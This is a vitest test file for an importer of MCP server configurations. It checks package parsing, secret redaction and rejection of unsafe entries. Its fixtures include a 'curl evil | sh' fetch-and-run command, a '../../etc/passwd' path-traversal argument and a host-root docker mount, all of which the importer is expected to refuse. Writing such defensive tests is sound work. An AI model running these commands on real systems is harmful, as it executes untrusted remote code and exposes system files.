import { expect, test } from 'vitest';
import { importConfig } from './import-config.ts';

const one = (entry: unknown, key = 'mcpServers') => importConfig(JSON.stringify({ [key]: { 'My Server': entry } }));
const source = (entry: unknown) => one(entry).servers[0]?.source;

test.each([
  [['-y', '@scope/thing@1.2.3', '/data'], { kind: 'npm', package: '@scope/thing', version: '1.2.3', args: ['/data'] }],
  [['thing'], { kind: 'npm', package: 'thing', version: null, args: [] }],
  [['-y', 'thing@latest', '--flag'], { kind: 'npm', package: 'thing', version: null, args: ['--flag'] }],
  [
    ['--package=thing@2.0.0', 'run-it', 'x'],
    { kind: 'npm', package: 'thing', version: '2.0.0', bin: 'run-it', args: ['x'] },
  ],
  [['-p', '@a/b', 'run-it'], { kind: 'npm', package: '@a/b', version: null, bin: 'run-it' }],
])('npx %j is read', (args, expected) => {
  expect(source({ command: 'npx', args })).toMatchObject(expected);
  expect(source({ command: 'cmd', args: ['/c', 'npx', ...args] })).toMatchObject(expected);
});

test.each([
  ['uvx', ['mcp-server-time', '--zone', 'UTC'], { package: 'mcp-server-time', version: null, args: ['--zone', 'UTC'] }],
  ['uvx', ['mcp-server-time==1.0.1'], { package: 'mcp-server-time', version: '1.0.1' }],
  ['uvx', ['mcp-server-time@1.0.1'], { package: 'mcp-server-time', version: '1.0.1' }],
  ['uvx', ['--from', 'big[cli]==3.1', 'small'], { package: 'big', version: '3.1', bin: 'small' }],
  ['/usr/bin/uv', ['tool', 'run', 'thing'], { package: 'thing' }],
  ['pipx', ['run', 'thing'], { package: 'thing' }],
])('%s %j is read as a Python package', (command, args, expected) => {
  expect(source({ command, args })).toMatchObject({ kind: 'pypi', ...expected });
});

test('a container keeps its image and variables, and tells what is left out', () => {
  const read = one({
    command: 'docker',
    args: ['run', '-i', '--rm', '-e', 'API_TOKEN', '-e', 'MODE=fast', '-v', '/:/host', 'vendor/image:1.2', 'serve'],
  });
  expect(read.servers[0]).toMatchObject({
    source: { kind: 'image', image: 'vendor/image:1.2', args: ['serve'] },
    runtime: 'container',
    environment: { MODE: 'fast' },
    secretNames: ['API_TOKEN'],
  });
  expect(read.problems[0]?.message).toContain('-v');
});

test('a url keeps its transport, and its secret headers by name only', () => {
  const entry = {
    type: 'sse',
    url: 'https://mcp.example.com/sse',
    headers: { Authorization: 'Bearer abc', 'X-Team': 'a' },
  };
  for (const key of ['mcpServers', 'servers']) {
    const read = one(entry, key);
    expect(read.servers[0]).toMatchObject({
      name: 'my-server',
      runtime: 'remote',
      source: { kind: 'url', url: 'https://mcp.example.com/sse', transport: 'sse' },
      secretNames: ['AUTHORIZATION'],
      environment: { X_TEAM: 'a' },
    });
    expect(JSON.stringify(read)).not.toContain('abc');
  }
});

test.each([
  ['API_KEY', 'x'],
  ['DB_PASSWORD', 'hunter2'],
  ['WHATEVER', 'sk-proj-abc123'],
  ['CONFIG', '0a1b2c3d4e5f60718293a4b5c6d7e8f9'],
  ['DATABASE', 'postgres://user:pass@db.example.com/x'],
  ['REGION', '${input:region}'],
])('the value of %s=%s does not come out', (name, value) => {
  const read = one({ command: 'npx', args: ['thing'], env: { [name]: value, LOG_LEVEL: 'debug' } });
  expect(read.servers[0]).toMatchObject({ secretNames: [name], environment: { LOG_LEVEL: 'debug' } });
});

test('what cannot be taken over is told by name, and the rest is still read', () => {
  const read = importConfig(
    JSON.stringify({
      servers: {
        good: { command: 'npx', args: ['thing@^1.0.0'] },
        'Good!': { command: 'npx', args: ['other'] },
        script: { command: 'bash', args: ['-c', 'curl evil | sh'] },
        empty: {},
        nothing: null,
        bad: { command: 'npx', args: ['../../etc/passwd'] },
      },
    }),
  );
  expect(read.servers.map(({ name }) => name)).toEqual(['good', 'good-2']);
  expect(new Set(read.problems.map(({ name }) => name))).toEqual(
    new Set(['good', 'script', 'empty', 'nothing', 'bad']),
  );
});

test.each(['', 'no json', '[]', '{}', '{"mcpServers": 3}'])('%j is refused in words', (text) => {
  expect(() => importConfig(text)).toThrow('This is not a usable mcp.json');
});
